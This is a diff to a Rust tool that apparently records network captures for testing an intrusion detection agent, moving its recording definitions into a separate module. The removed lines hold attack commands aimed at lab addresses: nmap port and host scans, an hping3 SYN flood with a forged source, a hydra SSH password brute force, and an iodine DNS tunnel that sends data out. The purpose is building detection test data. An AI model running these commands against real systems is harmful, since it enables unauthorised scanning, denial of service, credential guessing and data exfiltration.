@@ -7,6 +7,8 @@
 //! The captures differ from one recording to the next; what must be found in them does not. The namespaces have names
 //! of their own and are removed however the recording ends.
 
+mod tools;
+
 use std::path::{Path, PathBuf};
 use std::process::Command;
 use std::time::Duration;
@@ -14,14 +16,12 @@ use std::time::Duration;
 use anyhow::{Context, ensure};
 use serde_json::Value;
 
-use super::cases::ATTACKER;
-use super::craft::v4;
-use super::{Expect, FILE_BYTES_MAX, FORBIDDEN_SEVERITY, expected_json};
+use super::{FILE_BYTES_MAX, FORBIDDEN_SEVERITY, expected_json};
 use crate::command;
 use crate::install::Purpose;
 use crate::stage::{Collector, Place, Supervised};
+use tools::{Recording, recordings};
 
-const SERVER: std::net::IpAddr = v4([192, 168, 10, 5]);
 /// The agent has opened its ring within this time; what is sent earlier is not recorded.
 const SETTLE: Duration = Duration::from_secs(3);
 
@@ -32,98 +32,8 @@ enum Side {
     Outside,
 }
 
-/// One capture to record.
-struct Recording {
-    name: &'static str,
-    about: &'static str,
-    expect: Vec<Expect>,
-    /// Programs that run meanwhile: where, and a shell command that stays.
-    servers: &'static [(Side, &'static str)],
-    /// What is recorded: where, and a shell command that ends.
-    acts: &'static [(Side, &'static str)],
-}
-
-fn recordings() -> Vec<Recording> {
-    let scan = || vec![Expect::of("scan.port", Some(ATTACKER), Some(SERVER))];
-    vec![
-        Recording {
-            name: "scan.port/positive-recorded-nmap-syn",
-            about: "nmap -sS over 300 ports from outside.",
-            expect: scan(),
-            servers: &[],
-            acts: &[(Side::Outside, "nmap -n -Pn -sS -T4 -p1-300 192.168.10.5")],
-        },
-        Recording {
-            name: "scan.port/positive-recorded-nmap-connect",
-            about: "nmap -sT over 300 ports from outside.",
-            expect: scan(),
-            servers: &[],
-            acts: &[(Side::Outside, "nmap -n -Pn -sT -T4 -p1-300 192.168.10.5")],
-        },
-        Recording {
-            name: "scan.host/positive-recorded-nmap-sweep",
-            about: "nmap looks for port 445 on all of 192.168.20.0/24.",
-            expect: vec![Expect::of("scan.host", Some(ATTACKER), None)],
-            servers: &[],
-            acts: &[(Side::Outside, "nmap -n -Pn -sS -T4 --max-retries 0 -p445 192.168.20.0/24")],
-        },
-        Recording {
-            name: "flood.syn/positive-recorded-hping3",
-            about: "hping3 sends 4000 SYN from a forged source to an SSH server, about 300 a second.",
-            expect: vec![Expect::of("flood.syn", None, Some(SERVER))],
-            servers: &[(Side::Inside, SSHD)],
-            acts: &[(
-                Side::Outside,
-                "hping3 -q -S -i u3000 -c 4000 -a 198.51.100.7 -p 22 192.168.10.5 || true",
-            )],
-        },
-        Recording {
-            name: "bruteforce.login/positive-recorded-hydra",
-            about: "hydra tries 60 wrong passwords on a real SSH server.",
-            expect: vec![Expect::of("bruteforce.login", Some(ATTACKER), Some(SERVER))],
-            servers: &[(Side::Inside, SSHD)],
-            acts: &[(Side::Outside, HYDRA)],
-        },
-        Recording {
-            name: "dns.tunnel/positive-recorded-iodine",
-            about: "iodine carries 20 kB out through DNS names under tunnel.example.",
-            expect: vec![Expect::of("dns.tunnel", Some(SERVER), None)],
-            servers: &[
-                (Side::Outside, "exec iodined -f -c -P secret 172.30.9.1 tunnel.example"),
-                (Side::Inside, "sleep 1; exec iodine -f -r -P secret 203.0.113.66 tunnel.example"),
-            ],
-            acts: &[(
-                Side::Inside,
-                "sleep 8; for i in $(seq 25); do head -c 800 /dev/urandom >/dev/udp/172.30.9.1/9; sleep 0.2; done",
-            )],
-        },
-        Recording {
-            name: "dns.tunnel/benign-recorded-dig-curl",
-            about: "dig asks dnsmasq for 40 names; curl reads pages over TLS.",
-            expect: vec![],
-            servers: &[
-                (Side::Outside, "exec dnsmasq -k -C /dev/null -R -h --address=/example/203.0.113.66"),
-                (Side::Outside, HTTPS),
-            ],
-            acts: &[(
-                Side::Inside,
-                "for i in $(seq 40); do dig +short www$i.city.example @203.0.113.66; \
-                 curl -sk --resolve www$i.city.example:443:203.0.113.66 https://www$i.city.example/ >page; done",
-            )],
-        },
-    ]
-}
-
-const HYDRA: &str = "seq -f guess%03g 60 >passwords; hydra -I -l nobody -P passwords -t 4 ssh://192.168.10.5";
-const SSHD: &str = "mkdir -p /run/sshd; ssh-keygen -q -t ed25519 -N '' -f \"$PWD/hostkey\" <<<y; \
-    exec \"$(command -v sshd || echo /usr/sbin/sshd)\" -D -e -f /dev/null -h \"$PWD/hostkey\" -o UsePAM=no \
-    -o PasswordAuthentication=yes -o MaxStartups=100 -o ListenAddress=192.168.10.5";
-const HTTPS: &str = "openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -days 2 \
-    -subj /CN=city.example -keyout key.pem -out cert.pem; \
-    exec openssl s_server -quiet -www -accept 203.0.113.66:443 -key key.pem -cert cert.pem";
-
-/// Records every capture anew.
-pub(crate) fn all(root: &Path) -> anyhow::Result<()> {
+/// Records every capture anew whose name holds `only`.
+pub(crate) fn all(root: &Path, only: &str) -> anyhow::Result<()> {
     let uid = command::output(Command::new("id").arg("-u"))?;
     ensure!(uid.trim() == "0", "recording makes network namespaces and captures: run it as root");
     let place = Place::build(root, Purpose::Record, "record")?;
@@ -131,7 +41,7 @@ pub(crate) fn all(root: &Path) -> anyhow::Result<()> {
     let collector = Collector::start(&place, None)?;
     let [body, ..] = super::scenario::BODIES;
     let state = collector.enrol(&place, &body)?;
-    for recording in recordings() {
+    for recording in recordings().into_iter().filter(|recording| recording.name.contains(only)) {
         eprintln!("xtask: recording {}", recording.name);
         record(&place, &state, &recording).with_context(|| format!("cannot record {}", recording.name))?;
     }
